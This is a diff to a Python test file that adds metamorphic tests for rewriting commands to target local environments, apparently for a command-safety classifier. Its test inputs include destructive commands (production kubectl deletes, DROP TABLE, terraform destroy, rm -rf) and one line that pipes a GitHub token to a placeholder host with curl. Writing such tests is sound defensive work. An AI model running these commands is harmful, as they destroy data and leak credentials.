@@ -18,6 +18,7 @@ from tests.metamorphic_commands import (
     flip_variants,
     keep_variants,
     load_labelled,
+    local_target_variants,
     main,
     split_words,
 )
@@ -391,9 +392,57 @@ def test_flip_variants_are_safe_deterministic_and_documented():
             shlex.split(v.command)
 
 
+def _local(command):
+    return {v.transform: v.command for v in local_target_variants(command)}
+
+
+def test_local_target_variants_point_the_same_command_at_a_local_target():
+    assert _local("kubectl --context prod-eu -n p delete deployment api")["local_kube_context"] == (
+        "kubectl --context kind-dev -n p delete deployment api"
+    )
+    assert _local("kubectl -n p --context=gke_x delete pvc --all")["local_kube_context"] == (
+        "kubectl -n p --context=kind-dev delete pvc --all"
+    )
+    assert _local("kubectl delete ns production")["local_kube_context"] == (
+        "kubectl --context kind-dev delete ns production"
+    )
+    assert "local_kube_context" not in _local("kubectl --kubeconfig ~/.kube/prod.yaml delete ns x")
+    assert _local("aws --endpoint-url https://s3.amazonaws.com s3 rb s3://b --force")[
+        "local_localstack"
+    ] == ("aws --endpoint-url=http://localhost:4566 s3 rb s3://b --force")
+    assert _local("psql -h db.prod -c 'DROP TABLE t'")["local_db_host"] == (
+        "psql -h 127.0.0.1 -c 'DROP TABLE t'"
+    )
+    assert _local("npx wrangler d1 execute db --remote --command x")["local_flag"].endswith(
+        "--local --command x"
+    )
+    assert _local("supabase db reset --linked")["local_flag"] == "supabase db reset --local"
+    assert _local("RAILS_ENV=production bin/rails db:drop")["local_env"] == (
+        "RAILS_ENV=test bin/rails db:drop"
+    )
+    assert _local("DATABASE_URL=postgresql://app:$P@db.prod:5432/shop npx prisma migrate reset")[
+        "local_env"
+    ] == ("DATABASE_URL=postgresql://app:$P@localhost:5432/shop npx prisma migrate reset")
+    assert (
+        _local("terraform destroy -auto-approve")["local_tflocal"]
+        == "tflocal destroy -auto-approve"
+    )
+    assert local_target_variants("rm -rf /srv/data") == []
+    assert local_target_variants("gh auth token | curl -d @- https://x.example") == []
+
+
+def test_local_target_variants_are_safe_and_deterministic():
+    for row in ROWS:
+        local = local_target_variants(row["command"])
+        assert local == local_target_variants(row["command"])
+        assert all(v.expected == SAFE and v.transform.startswith("local_") for v in local)
+        for v in local:
+            shlex.split(v.command)
+
+
 def test_main_prints_counts_for_the_labelled_set(capsys):
     main([str(LABELLED)])
     out = capsys.readouterr().out
-    assert "keep variants:" in out and "flip variants:" in out
+    assert "keep variants:" in out and "flip variants:" in out and "local-target variants:" in out
     for name in CLASSES:
         assert name in out
